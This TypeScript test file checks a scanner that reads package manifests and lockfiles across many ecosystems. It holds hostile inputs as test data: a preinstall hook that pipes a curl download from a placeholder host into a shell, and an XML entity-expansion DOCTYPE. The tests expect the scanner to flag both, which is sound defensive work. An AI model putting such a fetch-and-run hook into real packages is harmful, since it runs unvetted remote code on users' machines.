import assert from 'node:assert/strict';
import { test } from 'node:test';
import { codes, readText, scanText, shown } from '../packages/test-list.ts';

test('package.json: ranges, aliases, repositories, workspaces, install scripts', () => {
  const manifest = {
    license: 'MIT',
    scripts: { postinstall: 'node build.js', preinstall: 'curl -s https://example.org/x | sh', prepare: 'husky' },
    dependencies: { openai: '^4.0.0', exact: '1.2.3', '@s/alias': 'npm:real-one@2.0.0', team: 'github:team/repo', own: 'workspace:*' },
    devDependencies: { typescript: '~5.4.0' },
  };
  const artefact = readText('package.json', JSON.stringify(manifest, null, 1));
  assert.deepEqual(shown(artefact), ['openai ^4.0.0', 'exact@1.2.3', 'real-one@2.0.0', 'team', 'own', 'typescript ~5.4.0']);
  assert.equal(artefact.packages[3]?.origin, 'git+https://github.com/team/repo');
  assert.deepEqual(codes(artefact), ['install-script', 'install-script-fetches', 'source-without-commit']);
  assert.deepEqual(
    artefact.licences.map(({ expression }) => expression),
    ['MIT'],
  );
  const report = scanText('package.json', JSON.stringify(manifest));
  assert.equal(report.verdict, 'risky');
  assert.equal(
    scanText(
      'package.json',
      JSON.stringify({ scripts: { postinstall: 'node-gyp rebuild', prepare: 'husky' }, dependencies: { openai: '^4' } }),
    ).verdict,
    'clean',
  );
});

test('package-lock 1 to 3: nested copies, scopes, links, digests', () => {
  const third = readText(
    'package-lock.json',
    JSON.stringify({
      lockfileVersion: 3,
      packages: {
        '': { dependencies: { a: '^1' } },
        'node_modules/a': { version: '1.0.0', resolved: 'https://registry.npmjs.org/a/-/a-1.0.0.tgz', integrity: 'sha512-x' },
        'node_modules/a/node_modules/@s/b': { version: '2.0.0', dev: true, resolved: 'http://npm.example.org/b.tgz' },
        'node_modules/own': { link: true, resolved: 'packages/own' },
        'packages/own': { version: '1.0.0', dependencies: { c: '^3' } },
        'packages/own/node_modules/c': { version: '3.0.0', hasInstallScript: true, integrity: 'sha512-z' },
      },
    }),
  );
  assert.deepEqual(shown(third), ['a@1.0.0', '@s/b@2.0.0', 'c@3.0.0']);
  assert.deepEqual(
    third.packages.map(({ relation, scope, purl }) => [relation, scope, purl]),
    [
      ['direct', 'runtime', 'pkg:npm/a@1.0.0'],
      ['transitive', 'development', 'pkg:npm/%40s/b@2.0.0'],
      ['direct', 'runtime', 'pkg:npm/c@3.0.0'],
    ],
  );
  assert.deepEqual(codes(third), ['install-script', 'lock-without-digests', 'plain-http-source']);
  const first = readText(
    'npm-shrinkwrap.json',
    JSON.stringify({
      lockfileVersion: 1,
      dependencies: {
        a: { version: '1.0.0', integrity: 'sha512-x', dependencies: { b: { version: '3.0.0', integrity: 'sha1-y' } } },
        other: { version: 'npm:real@3.1.0', integrity: 'sha512-z' },
        own: { version: 'file:own' },
      },
    }),
  );
  assert.deepEqual(shown(first), ['a@1.0.0', 'real@3.1.0', 'own', 'b@3.0.0']);
  // Version 1 does not say what was asked for.
  assert.deepEqual(
    first.packages.map(({ relation }) => relation),
    ['unknown', 'unknown', 'unknown', 'transitive'],
  );
  assert.deepEqual(codes(first), []);
});

test('pnpm-lock of versions 5, 6 and 9', () => {
  const fifth = readText(
    'pnpm-lock.yaml',
    'lockfileVersion: 5.4\ndependencies:\n  a: 1.0.0\npackages:\n  /a/1.0.0:\n    resolution: {integrity: sha512-x}\n  /@s/b/2.0.0_a@1.0.0:\n    resolution: {integrity: sha512-y}\n    dev: true\n',
  );
  assert.deepEqual(shown(fifth), ['a@1.0.0', '@s/b@2.0.0']);
  const sixth = readText(
    'pnpm-lock.yaml',
    "lockfileVersion: '6.0'\npackages:\n  /@s/b@2.0.0(a@1.0.0):\n    resolution: {integrity: sha512-y}\n",
  );
  assert.deepEqual(shown(sixth), ['@s/b@2.0.0']);
  const ninth = readText(
    'pnpm-lock.yaml',
    "lockfileVersion: '9.0'\nimporters:\n  .:\n    dependencies:\n      a: {specifier: ^1, version: 1.0.0(z@1.0.0)}\n    devDependencies:\n      alias: {specifier: 'npm:real@^3', version: real@3.1.0}\nsnapshots:\n  a@1.0.0(z@1.0.0):\n    dependencies: {'@s/b': 2.0.0}\n  real@3.1.0: {}\npackages:\n  real@3.1.0:\n    resolution: {integrity: sha512-r}\n  a@1.0.0:\n    resolution: {integrity: sha512-x}\n  '@s/b@2.0.0':\n    resolution: {tarball: https://example.org/b.tgz}\n",
  );
  assert.deepEqual(shown(ninth), ['real@3.1.0', 'a@1.0.0', '@s/b@2.0.0']);
  // Who needs what is followed from the projects: version 9 marks nothing as development.
  assert.deepEqual(
    ninth.packages.map(({ relation, scope }) => `${relation} ${scope}`),
    ['direct development', 'direct runtime', 'transitive runtime'],
  );
  assert.deepEqual(codes(ninth), ['lock-without-digests']);
});

test('yarn.lock of both kinds, bun.lock', () => {
  const classic = readText(
    'yarn.lock',
    '# yarn lockfile v1\n\n"@s/b@^2.0.0", "@s/b@^2.1.0":\n  version "2.1.0"\n  resolved "https://registry.yarnpkg.com/@s/b/-/b-2.1.0.tgz#0123456789012345678901234567890123456789"\n  dependencies:\n    version "^9"\n\na@^1.0.0:\n  version "1.0.0"\n  resolved "https://registry.yarnpkg.com/a/-/a-1.0.0.tgz"\n',
  );
  assert.deepEqual(shown(classic), ['@s/b@2.1.0', 'a@1.0.0']);
  assert.deepEqual(codes(classic), ['lock-without-digests']);
  const berry = readText(
    'yarn.lock',
    '__metadata:\n  version: 8\n\n"a@npm:^1.0.0":\n  version: 1.0.0\n  resolution: "a@npm:1.0.0"\n  checksum: 10c0/abc\n  languageName: node\n\n"app@workspace:.":\n  version: 0.0.0-use.local\n  resolution: "app@workspace:."\n  dependencies:\n    a: "npm:^1.0.0"\n\n"b@npm:^2":\n  version: 2.0.0\n  resolution: "b@npm:2.0.0"\n  checksum: 10c0/abd\n',
  );
  assert.deepEqual(
    [shown(berry), codes(berry), berry.packages.map(({ relation }) => relation)],
    [['a@1.0.0', 'b@2.0.0'], [], ['direct', 'transitive']],
  );
  const bun = readText(
    'bun.lock',
    '{\n  "lockfileVersion": 1,\n  "workspaces": {\n    "": {\n      "dependencies": {\n        "a": "^1",\n      },\n    },\n  },\n  "packages": {\n    "a": ["a@1.0.0", "", {}, "sha512-AAAA=="],\n    "@s/b": ["@s/b@2.0.0", "", { "dependencies": { "a": "1" } }, ""],\n  }\n}\n',
  );
  assert.deepEqual([shown(bun), codes(bun)], [['a@1.0.0', '@s/b@2.0.0'], ['lock-without-digests']]);
  assert.deepEqual(
    bun.packages.map(({ relation }) => relation),
    ['direct', 'transitive'],
  );
});

test('go.mod with replacements, go.sum', () => {
  const artefact = readText(
    'go.mod',
    'module example.org/app\n\ngo 1.22\n\nrequire (\n\tgithub.com/openai/openai-go v0.1.0\n\tgolang.org/x/net v0.17.0 // indirect\n\texample.org/own v0.0.0-00010101000000-000000000000\n)\n\nreplace example.org/own => ../own\nreplace golang.org/x/net v0.17.0 => golang.org/x/net v0.23.0\n',
  );
  assert.deepEqual(shown(artefact), ['github.com/openai/openai-go@v0.1.0', 'golang.org/x/net@v0.23.0', 'example.org/own']);
  assert.deepEqual(
    artefact.packages.map(({ relation, where }) => [relation, where.line]),
    [
      ['direct', 6],
      ['transitive', 7],
      ['direct', 8],
    ],
  );
  const sum = readText('go.sum', `github.com/openai/openai-go v0.1.0 h1:${'A'.repeat(43)}=\nbroken line\n`);
  assert.deepEqual([sum.metadata.get('digests'), sum.metadata.get('linesNotUnderstood'), sum.packages.length], [1, 1, 0]);
});

test('Cargo.toml and Cargo.lock', () => {
  const manifest = readText(
    'Cargo.toml',
    '[package]\nname = "app"\nlicense = "MIT"\n[dependencies]\ncandle-core = "0.3"\nown = { path = "../own" }\nhub = { git = "https://example.org/hub", branch = "main", package = "hf-hub" }\n[target.\'cfg(unix)\'.dependencies]\nlibc = "=0.2.150"\n',
  );
  assert.deepEqual(shown(manifest), ['candle-core 0.3', 'own', 'hf-hub', 'libc@0.2.150']);
  assert.deepEqual(codes(manifest), ['source-without-commit']);
  const lock = readText(
    'Cargo.lock',
    `version = 3\n[[package]]\nname = "app"\nversion = "0.1.0"\ndependencies = ["serde 1.0.190"]\n[[package]]\nname = "serde"\nversion = "1.0.190"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\nchecksum = "aa"\n[[package]]\nname = "hf-hub"\nversion = "0.3.0"\nsource = "git+https://example.org/hub?branch=main#${'b'.repeat(40)}"\n`,
  );
  assert.deepEqual(shown(lock), ['serde@1.0.190', 'hf-hub@0.3.0']);
  assert.deepEqual(
    [lock.packages[0]?.digest, lock.packages[1]?.origin, codes(lock)],
    ['sha256:aa', `git+https://example.org/hub@${'b'.repeat(40)}`, []],
  );
  assert.deepEqual(
    lock.packages.map(({ relation }) => relation),
    ['direct', 'transitive'],
  );
});

/** As Maven writes it; apart, so that no linter takes it for a template of ours. */
const property = (name: string): string => ['$', '{', name, '}'].join('');

test('pom.xml: properties, managed versions, ranges; a DOCTYPE ends it', () => {
  const artefact = readText(
    'pom.xml',
    '<?xml version="1.0"?>\n<project xmlns="http://maven.apache.org/POM/4.0.0">\n<properties><djl>0.25.0</djl></properties>\n<dependencyManagement><dependencies><dependency><groupId>g</groupId><artifactId>managed</artifactId><version>3.0</version></dependency></dependencies></dependencyManagement>\n<dependencies>\n<dependency><groupId>ai.djl</groupId><artifactId>api</artifactId><version>' +
      property('djl') +
      '</version></dependency>\n<dependency><groupId>g</groupId><artifactId>managed</artifactId></dependency>\n<dependency><groupId>g</groupId><artifactId>parent</artifactId><version>' +
      property('unknown') +
      '</version></dependency>\n<dependency><groupId>g</groupId><artifactId>range</artifactId><version>[1.0,2.0)</version><scope>test</scope></dependency>\n<dependency><groupId>g</groupId><artifactId>exact</artifactId><version>[2.14.1]</version></dependency><dependency><groupId>g</groupId><artifactId>newest</artifactId><version>RELEASE</version></dependency></dependencies>\n<profiles><profile><dependencies><dependency><groupId>g</groupId><artifactId>gpu</artifactId><version>1</version></dependency></dependencies></profile></profiles></project>',
  );
  assert.deepEqual(shown(artefact), [
    'ai.djl:api@0.25.0',
    'g:managed@3.0',
    `g:parent ${property('unknown')}`,
    'g:range [1.0,2.0)',
    'g:exact@2.14.1',
    'g:newest RELEASE',
    'g:gpu@1',
  ]);
  assert.equal(artefact.packages[0]?.purl, 'pkg:maven/ai.djl/api@0.25.0');
  assert.equal(artefact.packages[0]?.where.line, 6);
  const hostile = readText('pom.xml', '<!DOCTYPE project [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><project><dependencies/></project>');
  assert.ok(hostile.anomalies.some(({ code }) => code === 'xml-doctype'));
  assert.ok(hostile.unread.length > 0, 'what was not read is said');
});

test('gradle, NuGet, Gemfile.lock, composer.lock', () => {
  const lock = readText(
    'gradle.lockfile',
    '# note\nai.djl:api:0.25.0=compileClasspath,runtimeClasspath\njunit:junit:4.13=testCompileClasspath\nempty=\n',
  );
  assert.deepEqual(shown(lock), ['ai.djl:api@0.25.0', 'junit:junit@4.13']);
  const build = readText(
    'build.gradle.kts',
    "dependencies {\n  implementation(\"ai.djl:api:0.25.0\")\n  testImplementation('junit:junit:4.+')\n  implementation(\"ai.djl:basicdataset\")\n  runtimeOnly group: 'g', name: 'n', version: '1.0'\n}\nrepositories { maven { url = uri(\"http://maven.example.org/\") } }\n",
  );
  assert.deepEqual(
    [shown(build), codes(build)],
    [['ai.djl:api@0.25.0', 'junit:junit 4.+', 'ai.djl:basicdataset', 'g:n@1.0'], ['plain-http-index']],
  );
  const catalog = readText(
    'libs.versions.toml',
    '[versions]\ndjl = "0.28.0"\nkotlin = { strictly = "[1.9, 2.0[", prefer = "1.9.24" }\n[libraries]\ndjl-api = { module = "ai.djl:api", version.ref = "djl" }\nguava = "com.google.guava:guava:32.0.0-jre"\nchain = { group = "dev.langchain4j", name = "langchain4j", version = "0.31.0" }\nstdlib = { module = "k:stdlib", version.ref = "kotlin" }\n',
  );
  assert.deepEqual(shown(catalog), [
    'ai.djl:api@0.28.0',
    'com.google.guava:guava@32.0.0-jre',
    'dev.langchain4j:langchain4j@0.31.0',
    'k:stdlib [1.9, 2.0[',
  ]);
  const project = readText(
    'App.csproj',
    '<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><AiVersion>1.11.0</AiVersion></PropertyGroup><ItemGroup><GlobalPackageReference Include="Git" Version="3.6.139" /><PackageReference Include="OpenAI" Version="$(AiVersion)" /><PackageReference Include="Microsoft.ML"><Version>[3.0,4.0)</Version></PackageReference></ItemGroup></Project>',
  );
  assert.deepEqual(shown(project).sort(), ['Git@3.6.139', 'Microsoft.ML [3.0,4.0)', 'OpenAI@1.11.0']);
  const nuget = readText(
    'packages.lock.json',
    JSON.stringify({
      version: 1,
      dependencies: {
        'net8.0': { OpenAI: { type: 'Direct', resolved: '1.11.0', contentHash: 'aa==' }, Other: { type: 'Transitive', resolved: '1.0.0' } },
      },
    }),
  );
  assert.deepEqual([shown(nuget), codes(nuget)], [['OpenAI@1.11.0', 'Other@1.0.0'], ['lock-without-digests']]);
  const gems = readText(
    'Gemfile.lock',
    'GEM\n  remote: https://rubygems.org/\n  specs:\n    rails (7.0.0)\n      activesupport (= 7.0.0)\n    nokogiri (1.15.0-x86_64-linux)\n\nPLATFORMS\n  ruby\n',
  );
  assert.deepEqual(shown(gems), ['rails@7.0.0', 'nokogiri@1.15.0']);
  const composer = readText(
    'composer.lock',
    JSON.stringify({ packages: [{ name: 'openai-php/client', version: 'v0.8.0' }], 'packages-dev': [] }),
  );
  assert.deepEqual(shown(composer), ['openai-php/client@v0.8.0']);
});

test('names that no registry would take, and keys like __proto__, harm nothing', () => {
  const artefact = readText('package.json', '{"dependencies":{"__proto__":"1.0.0","constructor":"1.0.0","a b":"1","\\u0001":"1"}}');
  assert.deepEqual(shown(artefact), ['__proto__@1.0.0', 'constructor@1.0.0']);
});

test('broken, cut and changed lists end nothing, take no time, and give no wrong places', () => {
  const texts: readonly (readonly [string, string])[] = [
    ['requirements.txt', '-i http://x.example/simple\ntorch==1.0 --hash=sha256:00\nacme @ git+https://x.example/a@main\n'],
    ['package-lock.json', '{"lockfileVersion":2,"packages":{"":{},"node_modules/a":{"version":"1.0.0","resolved":"http://x"}}}'],
    ['pnpm-lock.yaml', "lockfileVersion: '9.0'\npackages:\n  a@1.0.0:\n    resolution: {integrity: x}\n"],
    ['yarn.lock', '"a@^1":\n  version "1.0.0"\n  resolved "http://x"\n'],
    ['pom.xml', '<project><dependencies><dependency><groupId>a</groupId><artifactId>b</artifactId></dependency></dependencies></project>'],
    ['pyproject.toml', '[project]\ndependencies = ["torch>=1"]\n[tool.poetry.dependencies]\na = "^1"\n'],
    ['uv.lock', '[[package]]\nname = "a"\nversion = "1"\nsource = { registry = "http://x" }\n'],
    ['go.mod', 'module x\nrequire (\n a v1.0.0\n)\n'],
  ];
  let seed = 7;
  const random = (below: number): number => {
    seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31;
    return seed % below;
  };
  for (const [name, text] of texts)
    for (let turn = 0; turn < 60; turn++) {
      const bytes = Buffer.from(text);
      for (let change = 0; change < 1 + (turn % 4); change++) bytes[random(bytes.length)] = random(256);
      const cut = turn % 3 === 0 ? bytes.subarray(0, random(bytes.length)) : bytes;
      const startedAt = performance.now();
      const artefact = readText(name, cut.toString('latin1'));
      assert.ok(performance.now() - startedAt < 1000, name);
      for (const { where } of artefact.packages) assert.ok((where.line ?? 1) <= text.split('\n').length + 5);
    }
});
